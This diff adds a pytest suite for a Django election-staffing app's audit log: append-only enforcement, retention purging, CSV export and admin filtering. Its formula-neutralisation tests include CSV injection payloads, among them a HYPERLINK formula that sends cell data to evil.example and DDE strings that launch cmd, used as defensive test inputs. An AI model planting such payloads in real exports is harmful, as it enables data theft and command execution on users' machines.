@@ -1,0 +1,541 @@
+"""The audit log: append-only, kept for a retention period, exported as CSV,
+browsed and filtered by admins; sign-ins, reads of personal data and the
+services' writes all leave entries."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import UTC, date, datetime, timedelta
+
+import pytest
+from django.conf import settings as django_settings
+from django.core.cache import cache
+from django.core.exceptions import ValidationError
+from django.core.management import CommandError, call_command
+from django.db import IntegrityError, transaction
+from django.forms.models import model_to_dict
+from django.test import Client
+from django.urls import reverse
+from django.utils import timezone
+
+from accounts import audit, retention
+from accounts.audit_export import HEADER
+from accounts.models import ActorKind, AuditEntry, AuditLogIsAppendOnly, User
+from elections import services as election_services
+from elections.models import Election
+from pollcrew.refusals import Refused
+from polling_stations import services as station_services
+from polling_stations.models import Area, PollingStation
+from staffing import services as staffing_services
+from tests import factories as f
+from volunteers import services as volunteer_services
+from volunteers.models import Team, Volunteer
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture
+def admin_user():
+    return User.objects.create_superuser("admin@kommune.dk", "et-langt-kodeord")
+
+
+@pytest.fixture
+def admin_client(admin_user):
+    client = Client()
+    client.force_login(admin_user)
+    return client
+
+
+def login(user: User) -> Client:
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+def local(*args: int) -> datetime:
+    return datetime(*args, tzinfo=timezone.get_current_timezone())
+
+
+def entry_at(at: datetime, action: str = "test.thing", **kwargs) -> AuditEntry:
+    """An entry written at a given time (entries are never changed afterwards)."""
+    new = audit.entry(action, by=kwargs.pop("by", None), **kwargs)
+    new.at = at
+    new.save()
+    return new
+
+
+def csv_rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+# --- append-only ----------------------------------------------------------------
+
+
+def test_an_entry_cannot_be_changed_through_the_model():
+    e = audit.record("test.original", by=None, object_repr="Karen")
+    e.action = "test.forged"
+    with pytest.raises(AuditLogIsAppendOnly):
+        e.save()
+    with pytest.raises(AuditLogIsAppendOnly):
+        e.save(update_fields=["action"])
+    e.refresh_from_db()
+    assert e.action == "test.original"
+
+
+def test_an_entry_cannot_be_deleted_through_the_model():
+    e = audit.record("test.original", by=None)
+    with pytest.raises(AuditLogIsAppendOnly):
+        e.delete()
+    assert AuditEntry.objects.filter(pk=e.pk).exists()
+
+
+@pytest.mark.parametrize(
+    "write",
+    [
+        pytest.param(lambda qs, e: qs.update(action="test.forged"), id="update"),
+        pytest.param(lambda qs, e: qs.filter(pk=e.pk).update(action="test.forged"), id="filter"),
+        pytest.param(lambda qs, e: qs.delete(), id="delete"),
+        pytest.param(lambda qs, e: qs.filter(pk=e.pk).delete(), id="filter-delete"),
+        pytest.param(
+            lambda qs, e: qs.bulk_update([AuditEntry(pk=e.pk, action="x")], ["action"]),
+            id="bulk_update",
+        ),
+        pytest.param(
+            lambda qs, e: qs.update_or_create(pk=e.pk, defaults={"action": "test.forged"}),
+            id="update_or_create",
+        ),
+    ],
+)
+def test_an_entry_cannot_be_changed_or_deleted_through_a_queryset(write):
+    e = audit.record("test.original", by=None)
+    for qs in (AuditEntry.objects, AuditEntry.objects.all()):
+        with pytest.raises(AuditLogIsAppendOnly):
+            write(qs, e)
+    e.refresh_from_db()
+    assert e.action == "test.original"
+    assert AuditEntry.objects.count() == 1
+
+
+@pytest.mark.parametrize(
+    "overwrite",
+    [
+        pytest.param(lambda forged: forged.save(), id="save"),
+        pytest.param(lambda forged: forged.save(force_update=True), id="save-force-update"),
+        pytest.param(
+            lambda forged: AuditEntry.objects.bulk_create(
+                [forged],
+                update_conflicts=True,
+                unique_fields=["id"],
+                update_fields=["action", "object_repr"],
+            ),
+            id="bulk_create-upsert",
+        ),
+    ],
+)
+def test_an_entry_cannot_be_overwritten_by_a_new_object_with_its_id(overwrite):
+    """A new instance carrying an existing entry's id must not replace that entry."""
+    e = audit.record("test.original", by=None, object_repr="Karen")
+    forged = AuditEntry(
+        pk=e.pk, action="test.forged", actor_kind=ActorKind.SYSTEM, object_repr="Mallory"
+    )
+    with pytest.raises((AuditLogIsAppendOnly, IntegrityError)), transaction.atomic():
+        overwrite(forged)
+    e.refresh_from_db()
+    assert (e.action, e.object_repr) == ("test.original", "Karen")
+
+
+def test_record_many_writes_all_entries_at_once(django_assert_num_queries):
+    entries = [audit.entry("test.bulk", by=None, object_repr=f"#{i}") for i in range(5)]
+    with django_assert_num_queries(1):
+        audit.record_many(entries)
+    assert sorted(AuditEntry.objects.values_list("object_repr", flat=True)) == [
+        f"#{i}" for i in range(5)
+    ]
+
+
+def test_the_django_admin_shows_entries_but_cannot_add_change_or_delete(admin_client):
+    e = audit.record("test.original", by=None, object_repr="Karen Jensen")
+    changelist = reverse("admin:accounts_auditentry_changelist")
+    response = admin_client.get(changelist)
+    assert response.status_code == 200
+    assert "Karen Jensen" in response.content.decode()
+    # No actions at all (Django's "delete selected" needs the delete permission).
+    assert response.context["action_form"] is None
+    assert admin_client.get(changelist, {"q": "Karen"}).status_code == 200
+
+    assert admin_client.get(reverse("admin:accounts_auditentry_add")).status_code == 403
+    assert admin_client.post(reverse("admin:accounts_auditentry_add"), {}).status_code == 403
+    change = reverse("admin:accounts_auditentry_change", args=[e.pk])
+    page = admin_client.get(change)
+    # Read-only: the page shows the entry, with no way to save it.
+    assert page.status_code == 200
+    assert 'name="_save"' not in page.content.decode()
+    assert (
+        admin_client.post(change, {"action": "test.forged", "actor_kind": "system"}).status_code
+        == 403
+    )
+    delete = reverse("admin:accounts_auditentry_delete", args=[e.pk])
+    assert admin_client.get(delete).status_code == 403
+    assert admin_client.post(delete, {"post": "yes"}).status_code == 403
+    # The bulk delete action is not offered; posting it anyway deletes nothing.
+    admin_client.post(
+        changelist, {"action": "delete_selected", "_selected_action": [e.pk], "post": "yes"}
+    )
+    e.refresh_from_db()
+    assert e.action == "test.original"
+
+
+# --- retention ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("moment", "months", "expected"),
+    [
+        # 31 March minus a month: the end of February (28th, or the 29th in a leap year).
+        (local(2026, 3, 31, 12), 1, "2026-02-28T12:00:00+01:00"),
+        (local(2024, 3, 31, 12), 1, "2024-02-29T12:00:00+01:00"),
+        (local(2025, 5, 31, 9, 30), 1, "2025-04-30T09:30:00+02:00"),
+        (local(2025, 3, 29, 8), 13, "2024-02-29T08:00:00+01:00"),
+        (local(2025, 3, 31, 8), 13, "2024-02-29T08:00:00+01:00"),
+        (local(2026, 1, 15, 10), 13, "2024-12-15T10:00:00+01:00"),
+        # The same wall-clock time across a change to or from summer time.
+        (local(2026, 7, 15, 12), 6, "2026-01-15T12:00:00+01:00"),
+        (local(2026, 1, 15, 12), 6, "2025-07-15T12:00:00+02:00"),
+        # A moment given in UTC counts in local days: 31 March 22:30 UTC is 1 April
+        # 00:30 in Copenhagen, so a month earlier is 1 March, not 28 February.
+        (datetime(2026, 3, 31, 22, 30, tzinfo=UTC), 1, "2026-03-01T00:30:00+01:00"),
+        (local(2026, 12, 31, 23, 59), 12, "2025-12-31T23:59:00+01:00"),
+        (local(2026, 1, 31, 0, 0), 0, "2026-01-31T00:00:00+01:00"),
+    ],
+)
+def test_months_before_counts_calendar_months_in_local_time(moment, months, expected):
+    assert django_settings.TIME_ZONE == "Europe/Copenhagen"
+    assert retention.months_before(moment, months).isoformat() == expected
+
+
+def test_retention_cutoff_follows_the_setting(settings):
+    now = local(2026, 3, 31, 12)
+    settings.AUDIT_RETENTION_MONTHS = 13
+    assert retention.retention_cutoff(now).isoformat() == "2025-02-28T12:00:00+01:00"
+    settings.AUDIT_RETENTION_MONTHS = 1
+    assert retention.retention_cutoff(now).isoformat() == "2026-02-28T12:00:00+01:00"
+
+
+def test_the_default_retention_is_13_months():
+    assert django_settings.AUDIT_RETENTION_MONTHS == 13
+
+
+def test_purge_deletes_entries_older_than_the_retention_period_and_logs_itself(settings):
+    settings.AUDIT_RETENTION_MONTHS = 13
+    now = local(2026, 3, 31, 12)
+    cutoff = local(2025, 2, 28, 12)
+    ancient = entry_at(local(2020, 1, 1), object_repr="ancient")
+    old = entry_at(local(2024, 6, 1), object_repr="old")
+    just_old = entry_at(cutoff - timedelta(seconds=1), object_repr="just old")
+    at_cutoff = entry_at(cutoff, object_repr="at cutoff")
+    recent = entry_at(local(2025, 3, 1), object_repr="recent")
+    today = entry_at(now - timedelta(hours=1), object_repr="today")
+
+    assert retention.purge_audit_log(now) == 3
+
+    left = set(AuditEntry.objects.values_list("pk", flat=True))
+    assert {ancient.pk, old.pk, just_old.pk}.isdisjoint(left)
+    assert {at_cutoff.pk, recent.pk, today.pk} < left
+    purge = AuditEntry.objects.get(action="accounts.purge_audit_log")
+    assert purge.actor is None
+    assert purge.actor_kind == ActorKind.SYSTEM
+    assert purge.detail == {"deleted": 3, "before": cutoff.isoformat()}
+    assert left == {at_cutoff.pk, recent.pk, today.pk, purge.pk}
+
+
+def test_purge_with_a_shorter_retention_deletes_more(settings):
+    settings.AUDIT_RETENTION_MONTHS = 1
+    now = timezone.now()
+    entry_at(now - timedelta(days=45), object_repr="six weeks")
+    kept = entry_at(now - timedelta(days=20), object_repr="three weeks")
+    assert retention.purge_audit_log(now) == 1
+    assert set(AuditEntry.objects.exclude(action="accounts.purge_audit_log")) == {kept}
+    assert AuditEntry.objects.get(action="accounts.purge_audit_log").detail["deleted"] == 1
+
+
+def test_purge_with_nothing_to_delete_writes_nothing(settings):
+    settings.AUDIT_RETENTION_MONTHS = 13
+    kept = entry_at(timezone.now() - timedelta(days=300))
+    assert retention.purge_audit_log() == 0
+    assert list(AuditEntry.objects.all()) == [kept]
+
+
+def test_purge_before_is_the_only_way_to_delete():
+    now = timezone.now()
+    old = entry_at(now - timedelta(days=10))
+    new = entry_at(now)
+    assert AuditEntry.objects.purge_before(now - timedelta(days=1)) == 1
+    assert list(AuditEntry.objects.all()) == [new]
+    assert not AuditEntry.objects.filter(pk=old.pk).exists()
+
+
+def test_the_purge_task_runs_daily_from_the_beat_schedule(settings):
+    from accounts.tasks import purge_audit_log
+    from pollcrew.celery import app
+
+    schedule = django_settings.CELERY_BEAT_SCHEDULE["purge-audit-log"]
+    assert schedule["task"] == "accounts.tasks.purge_audit_log"
+    assert schedule["task"] in app.tasks
+    assert schedule["schedule"] <= timedelta(days=1)
+
+    settings.AUDIT_RETENTION_MONTHS = 13
+    entry_at(timezone.now() - timedelta(days=500))
+    kept = entry_at(timezone.now() - timedelta(days=30))
+    assert purge_audit_log.delay().get() == 1
+    assert kept in AuditEntry.objects.all()
+    assert AuditEntry.objects.filter(action="accounts.purge_audit_log").count() == 1
+
+
+# --- export_audit command -------------------------------------------------------
+
+
+def export(*args: str) -> str:
+    out = io.StringIO()
+    call_command("export_audit", *args, stdout=out)
+    return out.getvalue()
+
+
+def test_export_command_writes_the_given_local_days_in_time_order():
+    # Written out of order; 1 March 00:00 in Copenhagen is 28 February 23:00 UTC.
+    entry_at(local(2026, 3, 2, 23, 59, 59), "test.last", object_repr="last")
+    entry_at(local(2026, 2, 28, 23, 59, 59), "test.before", object_repr="before")
+    entry_at(local(2026, 3, 3, 0, 0), "test.after", object_repr="after")
+    entry_at(
+        local(2026, 3, 1, 0, 0),
+        "test.first",
+        object_repr="first",
+        changes={"name": ["Ørsted", "Østergaard"]},
+        detail={"query": "søren", "results": 2},
+        ip="192.0.2.7",
+    )
+    entry_at(local(2026, 3, 1, 12, 0), "test.middle", object_repr="middle")
+
+    text = export("--since", "2026-03-01", "--until", "2026-03-02")
+    assert next(csv.reader(io.StringIO(text))) == list(HEADER)
+    rows = csv_rows(text)
+    assert [r["object"] for r in rows] == ["first", "middle", "last"]
+    first = rows[0]
+    assert first["time"] == "2026-03-01T00:00:00+01:00"
+    assert first["action"] == "test.first"
+    assert first["actor_kind"] == "system"
+    assert json.loads(first["changes"]) == {"name": ["Ørsted", "Østergaard"]}
+    assert json.loads(first["detail"]) == {"query": "søren", "results": 2}
+    assert first["ip"] == "192.0.2.7"
+    assert rows[1]["changes"] == rows[1]["ip"] == ""
+
+
+def test_export_command_with_one_day_and_default_until():
+    entry_at(timezone.now() - timedelta(days=3), object_repr="three days ago")
+    entry_at(timezone.now(), object_repr="now")
+    today = timezone.localdate().isoformat()
+    assert [r["object"] for r in csv_rows(export("--since", today))] == ["now"]
+    assert [r["object"] for r in csv_rows(export("--since", today, "--until", today))] == ["now"]
+
+
+def test_export_command_names_the_staff_user():
+    user = f.user("kontor@kommune.dk")
+    audit.record("test.staff", by=user, object_repr="x")
+    (row,) = csv_rows(export("--since", timezone.localdate().isoformat()))
+    assert (row["actor_kind"], row["actor"]) == ("staff", "kontor@kommune.dk")
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ("--since", "2026-02-30"),
+        ("--since", "yesterday"),
+        ("--since", "2026-03-01", "--until", "1.3.2026"),
+        ("--since", "2026-03-02", "--until", "2026-03-01"),
+        (),
+    ],
+)
+def test_export_command_refuses_bad_dates(args):
+    with pytest.raises(CommandError):
+        export(*args)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")',
+        "+45 20 12 34 56",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_export_neutralises_formulas(text):
+    audit.record("test.formula", by=None, object_repr=text)
+    (row,) = csv_rows(export("--since", timezone.localdate().isoformat()))
+    assert row["object"] == "'" + text
+
+
+def test_export_keeps_ordinary_text_as_it_is():
+    audit.record("test.formula", by=None, object_repr="Karen = Jensen, 20 + 12")
+    (row,) = csv_rows(export("--since", timezone.localdate().isoformat()))
+    assert row["object"] == "Karen = Jensen, 20 + 12"
+
+
+# --- the audit page -------------------------------------------------------------
+
+
+@pytest.fixture
+def logbook():
+    """Entries by two staff users, a volunteer and the system, in two elections."""
+    # No roles: granting one is audited too, and would add entries.
+    alice = f.user("alice@kommune.dk")
+    bob = f.user("bob@kommune.dk")
+    e1, e2 = f.election(name="Valg A"), f.election(name="Valg B")
+    entry_at(local(2025, 1, 10, 9), "staffing.invite", by=alice, election_id=e1.pk,
+             object_type="staffing.assignment", object_repr="a-invite")  # fmt: skip
+    entry_at(local(2025, 1, 11, 0, 0), "staffing.accept", actor=ActorKind.VOLUNTEER,
+             election_id=e1.pk, object_type="staffing.assignment", object_repr="v-accept")  # fmt: skip
+    entry_at(local(2025, 1, 11, 23, 59), "read.staffing.station", by=bob, election_id=e2.pk,
+             object_type="polling_stations.pollingstation", object_repr="b-read")  # fmt: skip
+    entry_at(local(2025, 1, 12, 0, 0), "volunteers.update_volunteer", by=bob,
+             object_type="volunteers.volunteer", object_repr="b-update",
+             changes={"phone": ["+4520123456", "+4520654321"]})  # fmt: skip
+    entry_at(local(2025, 1, 13, 3), "staffing.expire", election_id=e2.pk,
+             object_type="staffing.assignment", object_repr="s-expire")  # fmt: skip
+    return {"alice": alice, "bob": bob, "e1": e1, "e2": e2}
+
+
+def shown(client: Client, **params) -> list[str]:
+    response = client.get(reverse("administration:audit"), params)
+    assert response.status_code == 200
+    return [e.object_repr for e in response.context["page"].object_list]
+
+
+def exported(client: Client, **params) -> list[str]:
+    response = client.get(reverse("administration:audit_export"), params)
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv")
+    rows = csv_rows(response.content.decode())
+    # The export's own entry is written first, so an export of "read." has it too.
+    return [r["object"] for r in rows if r["action"] != "read.audit_export"]
+
+
+def test_audit_page_lists_entries_newest_first(admin_client, logbook):
+    page = admin_client.get(reverse("administration:audit"))
+    html = page.content.decode()
+    reprs = [e.object_repr for e in page.context["page"].object_list]
+    # The admin's own sign-in (force_login) is the newest entry.
+    assert reprs[1:] == ["s-expire", "b-update", "b-read", "v-accept", "a-invite"]
+    assert page.context["page"].object_list[0].action == "auth.login"
+    assert "+4520123456 → +4520654321" in html
+    assert "bob@kommune.dk" in html
+
+
+@pytest.mark.parametrize(
+    ("params", "expected"),
+    [
+        (lambda w: {"actor": w["alice"].pk}, ["a-invite"]),
+        (lambda w: {"actor": w["bob"].pk}, ["b-update", "b-read"]),
+        (lambda w: {"actor_kind": "volunteer"}, ["v-accept"]),
+        (lambda w: {"actor_kind": "system", "since": "2025-01-01"}, ["s-expire"]),
+        # A prefix of the action: "staffing." is not "read.staffing.…".
+        (lambda w: {"action": "staffing."}, ["s-expire", "v-accept", "a-invite"]),
+        (lambda w: {"action": "staffing.accept"}, ["v-accept"]),
+        (lambda w: {"action": "read."}, ["b-read"]),
+        (lambda w: {"object_type": "staffing.assignment"}, ["s-expire", "v-accept", "a-invite"]),
+        (lambda w: {"object_type": "volunteers.volunteer"}, ["b-update"]),
+        (lambda w: {"object_type": "volunteers"}, []),
+        (lambda w: {"election": w["e1"].pk}, ["v-accept", "a-invite"]),
+        (lambda w: {"election": w["e2"].pk}, ["s-expire", "b-read"]),
+        # Local days, both ends included.
+        (lambda w: {"since": "2025-01-11", "until": "2025-01-11"}, ["b-read", "v-accept"]),
+        (lambda w: {"since": "2025-01-12", "until": "2025-01-13"}, ["s-expire", "b-update"]),
+        (lambda w: {"until": "2025-01-10"}, ["a-invite"]),
+        (
+            lambda w: {"actor": w["bob"].pk, "election": w["e2"].pk, "until": "2025-01-12"},
+            ["b-read"],
+        ),
+        # The end before the start matches nothing.
+        (lambda w: {"since": "2025-01-13", "until": "2025-01-10"}, []),
+    ],
+)
+def test_audit_page_and_export_filters(admin_client, logbook, params, expected):
+    query = params(logbook)
+    assert shown(admin_client, **query) == expected
+    # The export has the same entries, oldest first.
+    assert exported(admin_client, **query) == list(reversed(expected))
+
+
+def test_the_export_is_audited_with_its_filters(admin_client, admin_user, logbook):
+    response = admin_client.get(
+        reverse("administration:audit_export"), {"action": "staffing.", "since": "2025-01-01"}
+    )
+    assert response.status_code == 200
+    assert "attachment" in response["Content-Disposition"]
+    assert "no-store" in response["Cache-Control"]
+    export_entry = AuditEntry.objects.get(action="read.audit_export")
+    assert export_entry.actor == admin_user
+    assert export_entry.actor_kind == ActorKind.STAFF
+    assert export_entry.ip == "127.0.0.1"
+    assert "action=staffing." in export_entry.detail["filters"]
+    assert "since=2025-01-01" in export_entry.detail["filters"]
+
+
+def test_the_export_neutralises_formulas(admin_client):
+    audit.record("test.formula", by=None, object_repr='=HYPERLINK("http://evil.example")')
+    assert exported(admin_client, action="test.") == ['\'=HYPERLINK("http://evil.example")']
+
+
+@pytest.mark.parametrize("name", ["administration:audit", "administration:audit_export"])
+def test_audit_pages_are_404_for_everyone_but_admins(name, logbook):
+    for user in (f.user(coordinator=True), f.user(role="viewer"), f.user()):
+        assert login(user).get(reverse(name)).status_code == 404
+    assert not AuditEntry.objects.filter(action="read.audit_export").exists()
+    response = Client().get(reverse(name))
+    assert response.status_code == 302
+    assert response["Location"].startswith(reverse("account_login"))
+
+
+def test_audit_page_query_count_does_not_grow(
+    admin_client, django_assert_num_queries, django_assert_max_num_queries
+):
+    users = [f.user(f"person{i}@kommune.dk") for i in range(3)]
+    elections = [f.election() for _ in range(3)]
+
+    def add(count: int) -> None:
+        audit.record_many(
+            audit.entry(
+                "staffing.invite",
+                by=users[i % 3],
+                election_id=elections[i % 3].pk,
+                object_type="staffing.assignment",
+                object_id=i,
+                object_repr=f"seat {i}",
+                changes={"status": [None, "invited"]},
+                detail={"round": i},
+            )
+            for i in range(count)
+        )
+
+    url = reverse("administration:audit")
+    filtered = {"actor": users[0].pk, "election": elections[0].pk, "action": "staffing."}
+    add(3)
+    admin_client.get(url)
+    with django_assert_max_num_queries(12) as few:
+        # The three entries and the admin's sign-in.
+        assert len(admin_client.get(url).context["page"].object_list) == 4
+    with django_assert_max_num_queries(14) as few_filtered:
+        assert len(admin_client.get(url, filtered).context["page"].object_list) == 1
+    add(147)
+    with django_assert_num_queries(len(few.captured_queries)):
+        response = admin_client.get(url)
+    assert len(response.context["page"].object_list) == 100
+    with django_assert_num_queries(len(few.captured_queries)):
+        response = admin_client.get(url, {"page": "2"})
+    assert len(response.context["page"].object_list) == 50 + 3 + 1 - 3
+    with django_assert_num_queries(len(few_filtered.captured_queries)):
+        response = admin_client.get(url, filtered)
+    assert len(response.context["page"].object_list) == 51
